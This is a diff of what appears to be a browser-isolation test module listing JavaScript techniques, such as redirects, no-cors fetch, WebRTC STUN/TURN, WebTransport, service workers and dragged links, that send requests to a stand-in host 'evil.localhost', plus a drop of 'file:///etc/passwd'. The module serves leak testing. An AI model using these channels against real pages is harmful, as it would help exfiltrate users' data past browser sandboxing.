@@ -51,14 +51,6 @@ _REQUESTS = {
     "a service worker": "await navigator.serviceWorker.register(EVIL + '/service')",
     "a sound and a film": "for (const kind of ['audio', 'video']) { const m = "
     "document.createElement(kind); m.src = EVIL + '/' + kind; document.body.append(m); m.load() }",
-    "a redirect on the site": "new Image().src = SITE + '/redirect?' + "
-    "encodeURIComponent(EVIL + '/redirected')",
-    "a fetch through a redirect": "await fetch(SITE + '/redirect?' + "
-    "encodeURIComponent(EVIL + '/fetched'), {mode: 'no-cors'})",
-    "WebRTC": "const c = new RTCPeerConnection({iceServers: [{urls: 'stun:evil.localhost:' + "
-    "PORT}, {urls: 'turn:evil.localhost:' + PORT + '?transport=tcp', username: 'a', credential: "
-    "'b'}]}); c.createDataChannel('x'); await c.setLocalDescription()",
-    "WebTransport": "await new WebTransport(EVIL.replace('http', 'https') + '/t').ready",
 }
 
 
@@ -70,6 +62,7 @@ def ways_out() -> Iterator[Technique]:
     yield from _forms()
     yield from _inside()
     yield from _made()
+    yield from _carried()
     for number, form in enumerate(_DISGUISES):
         acts = (TAP, SOON) if number % 2 else (CLICK, SOON)
         yield Technique(25, f"a stranger in disguise, {form}", link(_with_port(form)), acts)
@@ -175,6 +168,16 @@ def _made() -> Iterator[Technique]:
         "a link with a script to a stranger",
         link('"javascript:location = \'" + EVIL + "/script\'"'),
     )
+
+
+def _carried() -> Iterator[Technique]:
+    yield Technique(
+        5, "a link taken along to the foot", link("EVIL + '/taken'"), (Point(Way.DRAG), SOON)
+    )
+    for way in (Way.BACK, Way.FORWARD):
+        yield Technique(
+            27, f"the button of a mouse that leads {way}", load(""), (Point(way), SOON)
+        )
     for address in ("file:///etc/passwd", "http://evil.localhost:__PORT__/dropped"):
         yield Technique(
             5,
